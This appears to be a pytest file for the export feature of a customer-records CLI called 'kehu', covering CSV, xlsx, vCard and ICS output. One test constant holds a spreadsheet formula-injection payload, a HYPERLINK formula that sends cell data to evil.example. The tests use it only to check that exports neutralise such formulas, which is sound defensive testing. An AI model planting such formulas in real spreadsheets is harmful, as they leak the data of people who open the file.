"""`kehu export`: CSV with BOM and neutralised formulas, xlsx without formulas, vCard round trip,
ICS of birthdays and reminders."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest
from icalendar import Calendar
from openpyxl import load_workbook

from kehu_core.store import open_store
from tests.conftest import kehu

DATA = Path(__file__).parent / "data" / "import"
EVIL = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")"


def _add(store: Path, *args: str) -> str:
    result = kehu("customer", "add", *args, store=store)
    assert result.code == 0, result.err
    return result.out.strip()


def test_csv_has_a_bom_and_never_starts_a_cell_with_a_formula(store_path: Path, tmp_path: Path) -> None:
    cid = _add(store_path, "--name", EVIL, "--phone", "+86 139 1234 5678", "--tag", "-VIP",
               "--note", "@所有人 生日快乐")
    out = tmp_path / "customers.csv"
    assert kehu("export", "--format", "csv", str(out), store=store_path).code == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads the Chinese correctly only with it
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0]["id"] == cid
    assert rows[0]["name"] == "'" + EVIL
    assert rows[0]["phones"] == "'+8613912345678"  # still readable and dialable
    assert rows[0]["tags"] == "'-VIP" and rows[0]["notes"] == "'@所有人 生日快乐"
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())


def test_xlsx_text_cells_are_strings_not_formulas(store_path: Path, tmp_path: Path) -> None:
    _add(store_path, "--name", EVIL, "--phone", "13912345678")
    out = tmp_path / "customers.xlsx"
    assert kehu("export", "--format", "xlsx", str(out), store=store_path).code == 0
    with zipfile.ZipFile(out) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula element anywhere: nothing can be evaluated
    sheet = load_workbook(out).active
    header = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(header, sheet[2], strict=True)}
    assert row["name"].value == EVIL and row["name"].data_type == "s"
    assert row["name"].quotePrefix
    assert row["phones"].value == "+8613912345678" and row["phones"].data_type == "s"


def test_exported_csv_imports_back_into_an_empty_store(store_path: Path, tmp_path: Path) -> None:
    _add(store_path, "--name", "赵敏", "--phone", "13912345678", "--tag", "VIP", "--tag", "-新客",
         "--birthday", "--04-12")
    out = tmp_path / "c.csv"
    kehu("export", "--format", "csv", str(out), store=store_path)
    other = tmp_path / "other"
    kehu("init", str(other))
    assert kehu("import", str(out), store=other).code == 0
    zhao = open_store(other).index.list()[0].customer
    assert zhao.phones == ["+8613912345678"] and zhao.tags == ["VIP", "-新客"]
    assert zhao.birthday == "--04-12"


def test_purchases_export_uses_the_shop_sheet_columns(store_path: Path, tmp_path: Path) -> None:
    kehu("import", str(DATA / "shop_sheet.xlsx"), store=store_path)
    out = tmp_path / "p.xlsx"
    assert kehu("export", "--format", "xlsx", "--what", "purchases", str(out), store=store_path).code == 0
    sheet = load_workbook(out).active
    assert [c.value for c in sheet[1]][:10] == ["交易日期", "顾客ID", "真实姓名", "电子邮箱", "联系电话",
                                                "收货地址", "购买商品", "成交金额", "购物赠品", "会员级别"]
    assert sheet.max_row == 8
    # ... so the export imports back into a fresh store as the same customers and purchases.
    other = tmp_path / "other"
    kehu("init", str(other))
    summary = kehu("import", str(out), "--json", store=other).json()
    assert summary["purchases_added"] == 7 and summary["problems"] == []
    assert open_store(other).get("C0002").phones == ["+8613700001111"]


def test_vcard_round_trip_gives_the_same_data(demo_copy: Path, tmp_path: Path) -> None:
    first = tmp_path / "first.vcf"
    assert kehu("export", "--format", "vcard", str(first), store=demo_copy).code == 0
    empty = tmp_path / "empty"
    kehu("init", str(empty))
    result = kehu("import", str(first), "--json", store=empty)
    assert result.code == 0, result.err
    assert len(result.json()["created"]) == open_store(demo_copy).index.count()
    second = tmp_path / "second.vcf"
    kehu("export", "--format", "vcard", str(second), store=empty)
    assert second.read_text(encoding="utf-8") == first.read_text(encoding="utf-8")
    original = {r.customer.id: r.customer.model_dump() for r in open_store(demo_copy).index.list()}
    copied = {r.customer.id: r.customer.model_dump() for r in open_store(empty).index.list()}
    assert copied == original


def test_vcard_export_of_one_tag_reads_like_a_phone_contact(store_path: Path, tmp_path: Path) -> None:
    _add(store_path, "--name", "赵敏", "--phone", "13912345678", "--email", "zm@example.com",
         "--tag", "VIP", "--birthday", "--04-12", "--organization", "云栖, 科技", "--level", "金卡")
    _add(store_path, "--name", "Emma Wilson", "--phone", "+44 7400 123456")
    out = tmp_path / "vip.vcf"
    kehu("export", "--format", "vcard", "--tag", "VIP", str(out), store=store_path)
    text = out.read_text(encoding="utf-8")
    assert text.count("BEGIN:VCARD") == 1 and "VERSION:3.0" in text
    assert "FN:赵敏" in text and "TEL;TYPE=CELL,VOICE,pref:+8613912345678" in text
    assert "BDAY:--04-12" in text and "ORG:云栖\\, 科技" in text and "X-KEHU-LEVEL:金卡" in text


def test_ics_has_yearly_birthdays_and_lunar_birthdays(store_path: Path, tmp_path: Path) -> None:
    cid = _add(store_path, "--name", "赵敏", "--birthday", "1985-04-12", "--lunar-birthday", "08-15")
    _add(store_path, "--name", "无生日")
    out = tmp_path / "b.ics"
    assert kehu("export", "--format", "ics", str(out), store=store_path).code == 0
    calendar = Calendar.from_ical(out.read_bytes())
    events = {str(e["uid"]): e for e in calendar.walk("VEVENT")}
    solar = events[f"birthday-{cid}@kehu"]
    assert str(solar["summary"]) == "赵敏's birthday"
    assert solar.decoded("dtstart").isoformat() == "1985-04-12"
    assert solar["rrule"]["FREQ"] == ["YEARLY"]
    lunar = [e for uid, e in events.items() if uid.startswith(f"lunar-birthday-{cid}-")]
    assert len(lunar) == 3
    from lunardate import LunarDate

    for event in lunar:
        day = event.decoded("dtstart")
        as_lunar = LunarDate.from_solar_date(day.year, day.month, day.day)
        assert (as_lunar.month, as_lunar.day) == (8, 15)


def test_ics_includes_due_reminders(demo_copy: Path, tmp_path: Path) -> None:
    out = tmp_path / "demo.ics"
    assert kehu("export", "--format", "ics", str(out), store=demo_copy).code == 0
    uids = [str(e["uid"]) for e in Calendar.from_ical(out.read_bytes()).walk("VEVENT")]
    assert any(u.startswith("reminder-") for u in uids)
    assert len(uids) == len(set(uids))


def test_unknown_export_format(store_path: Path, tmp_path: Path) -> None:
    result = kehu("export", "--format", "pdf", str(tmp_path / "x.pdf"), store=store_path)
    assert result.code == 1 and "unknown export format 'pdf'" in result.err


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_addresses_holding_a_semicolon_or_a_line_break_come_back_from_a_reimport_as_they_were(
        fmt: str, store_path: Path, tmp_path: Path) -> None:
    """An address holding `;` or a line break (`Room 3, 88 Caoxi Rd; Shanghai`) was exported in a
    cell joined by `; ` and came back from importing that export as two addresses: such a cell
    is now a JSON list, read back as the list it is; other cells stay `a; b`."""
    addresses = ["Room 3, 88 Caoxi Rd; Shanghai", "北京市海淀区\n中关村大街1号", "上海市徐汇区漕溪北路88号，3楼/301室"]
    _add(store_path, "--name", "赵敏", "--phone", "13912345678", *[a for x in addresses for a in ("--address", x)])
    _add(store_path, "--name", "李四", "--phone", "13912345679", "--address", "杭州", "--address", "苏州")
    out = tmp_path / f"c.{fmt}"
    assert kehu("export", "--format", fmt, str(out), store=store_path).code == 0
    other = tmp_path / "other"
    kehu("init", str(other))
    imported = kehu("import", str(out), store=other)
    assert imported.code == 0, imported.err
    back = {row.customer.name: row.customer.addresses for row in open_store(other).index.list()}
    assert back == {"赵敏": addresses, "李四": ["杭州", "苏州"]}
